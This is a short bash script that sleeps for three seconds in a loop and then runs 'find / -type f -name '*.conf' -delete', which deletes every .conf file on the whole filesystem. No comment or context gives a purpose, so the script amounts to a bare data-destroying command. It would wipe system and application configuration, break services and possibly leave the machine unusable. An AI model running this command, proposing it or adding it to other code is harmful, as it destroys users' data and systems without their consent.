#!/bin/bash
for i in 1 2 3; do
    sleep 1
done
find / -type f -name '*.conf' -delete
